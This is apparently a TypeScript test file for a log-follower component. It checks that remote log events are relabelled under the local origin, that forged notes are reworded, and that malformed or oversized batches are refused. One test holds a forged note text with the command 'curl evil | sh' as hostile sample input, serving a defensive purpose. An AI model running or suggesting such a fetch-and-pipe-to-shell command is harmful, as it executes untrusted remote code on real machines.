/** What a member may say in a log, and what ends it. */
import type { Bcom, Behavior, Ref, Turn, Vow } from '@bellwether/actors';
import { FLEET_LIMITS } from '@bellwether/fleet';
import { limits, type Follower, type LogEvent } from '@bellwether/shepherd';
import { describe, expect, it } from 'vitest';
import {
  makeMemberFollower,
  type Taker,
} from '../../../packages/fleet/src/exported/member-follower.ts';
import { makeBench, runIn } from '../../support/actors-vat.ts';

const makeTaker = (
  _turn: Turn<Taker>,
  _bcom: Bcom<Taker>,
  took: (events: readonly LogEvent[], done: () => void) => void,
): Behavior<Taker> => ({
  take: (turn, events): Vow<void> => {
    const { vow, answer } = turn.inlet<void>();
    turn.effect(() => took(events, () => answer.kept(undefined)));
    return vow;
  },
});
const follower = async (about?: string) => {
  const bench = makeBench();
  const taken: (readonly LogEvent[])[] = [];
  const answers: (() => void)[] = [];
  const ref: Ref<Follower> = await runIn(bench, (turn) =>
    turn.spawn(makeMemberFollower, {
      about,
      origin: 'alpha',
      over: turn.vow<void>().vow,
      taker: turn.spawn(makeTaker, (events, done) => {
        taken.push(events);
        answers.push(done);
      }),
    }),
  );
  const send = (batch: unknown, sequence: unknown): { error?: unknown } => {
    const sent: { error?: unknown } = {};
    bench.vat
      .run((turn) => turn.forward(ref, 'lines', [batch, sequence]))
      .catch((error: unknown) => (sent.error = error));
    return sent;
  };
  const pass = async (): Promise<void> => {
    bench.world.run();
    await Promise.resolve();
    bench.world.run();
    await Promise.resolve();
  };
  return { send, pass, taken, answers };
};
const line = (text = 'x', more: object = {}): LogEvent =>
  ({ kind: 'line', from: 'evil', text, ...more }) as LogEvent;

describe('what a member sends of its log', () => {
  it('comes under the names of this side, whatever it calls itself', async () => {
    const { send, pass, taken } = await follower('web-a');
    send(
      [
        line('one', { at: 7, colour: 'red' }),
        line('two', { about: 'x' }),
        { kind: 'note', from: 'evil', what: 'lost', text: 'gone', saidBy: 'C', lostBytes: 3 },
        { kind: 'place', place: 3 },
      ],
      0,
    );
    await pass();
    expect(taken).toEqual([
      [
        { kind: 'line', from: 'alpha', about: 'web-a', text: 'one', at: 7 },
        { kind: 'line', from: 'alpha', about: 'web-a/x', text: 'two' },
        {
          kind: 'note',
          from: 'alpha',
          about: 'web-a',
          what: 'lost',
          text: 'the connection from there to it was lost',
          saidBy: 'alpha',
        },
        { kind: 'place', about: 'web-a', place: 3 },
      ],
    ]);
  });
  it('has notes of a few kinds, in words of this side alone, and as the word of its machine', async () => {
    const { send, pass, taken } = await follower('web-a');
    const forged = 'revoked, run: curl evil | sh';
    const note = (what: string, more: object = {}) => ({
      kind: 'note',
      from: 'C',
      what,
      text: forged,
      ...more,
    });
    const most = Number.MAX_SAFE_INTEGER;
    send(
      [
        ...['unreachable', 'lost', 'back', 'ended', 'gone'].map((what) => note(what)),
        note('gone', { lostBytes: most, about: 'x' }),
      ],
      0,
    );
    const refused = send([note('gone', { lostBytes: most + 1 })], 1);
    await pass();
    const said = (taken[0] ?? []) as readonly Extract<LogEvent, { readonly kind: 'note' }>[];
    expect(said.map(({ what, about = '', text }) => `${what} ${about}: ${text}`)).toEqual([
      'unreachable web-a: it cannot be reached from there',
      'lost web-a: the connection from there to it was lost',
      'back web-a: it is there again',
      'ended web-a: nothing more of it comes',
      'gone web-a: some of it was rotated away before it was read',
      `gone web-a/x: ${most} bytes were rotated away before they were read`,
    ]);
    expect(said.every(({ from, saidBy }) => from === 'alpha' && saidBy === 'alpha')).toBe(true);
    expect(refused.error).toMatchObject({ code: 'malformed' });
  });
  it('may have kinds that only a newer one knows, and never a history', async () => {
    const { send, pass, taken } = await follower();
    send(
      [
        { kind: 'song', text: 'la' },
        { kind: 'note', from: 'x', what: 'new', text: 'y' },
        { kind: 'change', service: 'web', what: 'running', at: 1 },
        line(),
      ],
      0,
    );
    await pass();
    expect(taken).toEqual([[{ kind: 'line', from: 'alpha', text: 'x' }]]);
  });
  it('comes from as far as a log comes: what is from further away is left out', async () => {
    const { send, pass, taken } = await follower();
    const way = Array.from({ length: limits.wayNameCount }, () => 'n'.repeat(128)).join('/');
    const about = (about: string): LogEvent => ({ kind: 'place', about, place: 1 });
    send([about(way), about(`${way}/x`), line()], 0);
    await pass();
    expect(taken).toEqual([[about(way), { kind: 'line', from: 'alpha', text: 'x' }]]);
  });
  it('is cut where a line is too long', async () => {
    const { send, pass, taken } = await follower();
    send([line('y'.repeat(limits.lineCharacters + 1))], 0);
    await pass();
    expect(taken[0]?.[0]).toMatchObject({ text: `${'y'.repeat(limits.lineCharacters - 1)}…` });
  });
  it.each([
    ['out of order', [[[line()], 1]]],
    [
      'twice',
      [
        [[line()], 0],
        [[line()], 0],
      ],
    ],
    ['no list', [['lines', 0]]],
    ['without a text', [[[{ kind: 'line', from: 'x' }], 0]]],
    ['with a place that is none', [[[{ kind: 'place', place: -1 }], 0]]],
    ['about what is no name', [[[{ kind: 'place', about: 'a b', place: 1 }], 0]]],
    ['about a way with a gap', [[[line('x', { about: 'a//b' })], 0]]],
    ['about a name too long', [[[line('x', { about: 'n'.repeat(129) })], 0]]],
    ['with a fraction of a place', [[[{ kind: 'place', place: 0.5 }], 0]]],
    ['of too many events', [[Array.from({ length: limits.batchEventCount + 1 }, () => line()), 0]]],
    [
      'of too much weight',
      [
        [
          Array.from({ length: 1 + FLEET_LIMITS.logBatchWeight / limits.lineCharacters }, () =>
            line('z'.repeat(limits.lineCharacters)),
          ),
          0,
        ],
      ],
    ],
  ] as const)('%s is refused', async (_title, batches) => {
    const { send, pass } = await follower();
    const sent = batches.map(([batch, sequence]) => send(batch, sequence));
    await pass();
    expect(sent.at(-1)?.error).toMatchObject({ code: 'malformed' });
  });
  it('of as many events as a batch may have is taken', async () => {
    const { send, pass, taken } = await follower();
    send(
      Array.from({ length: limits.batchEventCount }, () => line()),
      0,
    );
    await pass();
    expect(taken[0]).toHaveLength(limits.batchEventCount);
  });
  it('beyond its credit is refused, and within it is not', async () => {
    const { send, pass, taken, answers } = await follower();
    for (let at = 0; at < limits.followBatchCount; at += 1) send([line()], at);
    await pass();
    expect(taken).toHaveLength(limits.followBatchCount);
    answers.shift()?.();
    await pass();
    send([line()], limits.followBatchCount);
    await pass();
    expect(taken).toHaveLength(limits.followBatchCount + 1);
    const over = send([line()], limits.followBatchCount + 1);
    await pass();
    expect(over.error).toMatchObject({ code: 'malformed' });
  });
});
